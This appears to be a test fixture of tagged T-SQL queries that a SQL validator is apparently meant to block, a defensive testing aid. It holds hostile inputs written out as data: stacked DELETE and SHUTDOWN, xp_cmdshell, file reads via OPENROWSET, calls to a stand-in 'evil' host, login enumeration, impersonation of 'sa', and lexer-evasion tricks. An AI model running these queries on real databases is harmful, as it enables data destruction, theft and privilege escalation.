#stacked
SELECT 1; DELETE FROM canary
;;
#stacked
SELECT 1 DELETE FROM canary
;;
#stacked
SELECT 1 EXEC xp_cmdshell 'id'
;;
#stacked
SELECT 1 WAITFOR DELAY '0:0:5'
;;
#stacked
SELECT 1 DECLARE @x INT
;;
#stacked
SELECT 1 SHUTDOWN WITH NOWAIT
;;
#dml
WITH c AS (SELECT * FROM canary) DELETE FROM c
;;
#dml
SELECT * FROM (UPDATE canary SET note = 'x' OUTPUT inserted.*) t
;;
#dml
EXEC sp_executesql N'DELETE FROM canary'
;;
#into
SELECT * INTO stolen FROM canary
;;
#into
SELECT TOP (1) * INTO #stolen FROM canary
;;
#lock
SELECT * FROM canary WITH (TABLOCKX, HOLDLOCK)
;;
#lock
SELECT * FROM canary WITH (UPDLOCK)
;;
#file
SELECT * FROM OPENROWSET(BULK 'C:\secret.txt', SINGLE_CLOB) AS f
;;
#file
SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;', 'SELECT 1') AS f
;;
#network
SELECT * FROM OPENQUERY(linked, 'SELECT 1')
;;
#network
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=evil').master.dbo.x
;;
#network
SELECT * FROM fn_xe_file_target_read_file('\\evil\share\x', NULL, NULL, NULL), fn_trace_gettable('\\evil\x', 1), fn_get_audit_file('\\evil\x', NULL, NULL)
;;
#alias
SELECT TOP (1) dbo.evil (a) FROM (SELECT 1 AS a) t
;;
#alias
SELECT TOP (1) evil (a) FROM (SELECT 1 AS a) t CROSS APPLY evil (a) AS f (b)
;;
#alias
SELECT * FROM (VALUES (1)) t (a) CROSS APPLY sys.fn_listextendedproperty (NULL, NULL, NULL, NULL, NULL, NULL, NULL)
;;
#alias
SELECT * FROM canary c OUTER APPLY dbo.evil_table (c.id) AS f (b)
;;
#name
SELECT [dbo].[evil](1)
;;
#name
SELECT "dbo"."evil" /* x */ (1)
;;
#session
SELECT @@VERSION, @@SERVERNAME, @@SPID
;;
#session
SELECT SESSION_CONTEXT(N'k'), CONTEXT_INFO(), CONNECTIONPROPERTY('client_net_address')
;;
#session
SET TRANSACTION ISOLATION LEVEL SERIALIZABLE
;;
#sequence
SELECT NEXT VALUE FOR canary_sequence
;;
#leak
SELECT SUSER_NAME(), SYSTEM_USER, ORIGINAL_LOGIN(), USER, CURRENT_USER, SESSION_USER, USER_NAME(), HOST_NAME(), DB_NAME()
;;
#leak
SELECT name FROM sysobjects
;;
#leak
SELECT name FROM master..sysdatabases
;;
#leak
SELECT name FROM sys.tables
;;
#leak
SELECT name FROM [sys].[sql_logins]
;;
#leak
SELECT * FROM INFORMATION_SCHEMA.TABLES
;;
#leak
SELECT OBJECT_NAME(1), COL_NAME(1, 1), SERVERPROPERTY('edition'), HAS_PERMS_BY_NAME(NULL, NULL, 'x'), IS_SRVROLEMEMBER('sysadmin'), PWDENCRYPT('x')
;;
#lexer
SELECT [a]]] , dbo.evil(1) , [b]] ] FROM t
;;
#lexer
SELECT 1 /* /* */ */ , dbo.evil(1)
;;
#lexer
SELECT 'a\' , dbo.evil(1) , '\'
;;
#lexer
SELECT 1 AS [--], dbo.evil(1)
;;
#lexer
SELECT N'a', dbo.evil(1), N'''b'
;;
#leak
SELECT name FROM dbo.sysobjects
;;
#leak
SELECT name FROM shop.dbo.sysusers
;;
#leak
SELECT name FROM shop..sysobjects
;;
#into
SELECT 1INTO stolen FROM canary
;;
#leak
SELECT 1FROM sysobjects
;;
#alias
SELECT dbo.EvilType::Run(1)
;;
#identity
EXEC sp_set_session_context 'app_caller', 'another'
;;
#identity
EXEC sys.sp_set_session_context @key = N'app_caller', @value = N'another'
;;
#identity
SELECT 1 EXEC sp_set_session_context 'app_caller', 'another'
;;
#identity
SELECT 1; EXEC sp_set_session_context 'app_caller', 'another'
;;
#identity
sp_set_session_context 'app_caller', 'another'
;;
#identity
EXECUTE AS USER = 'dbo'
;;
#identity
SELECT 1 EXECUTE AS LOGIN = 'sa'
;;
#identity
REVERT
;;
#identity
SELECT 1 REVERT
;;
#identity
SETUSER 'dbo'
;;
#identity
SET CONTEXT_INFO 0x01
;;
#identity
SELECT 1 SET CONTEXT_INFO 0x01
;;
#identity
DECLARE @x int = 1 SELECT @x
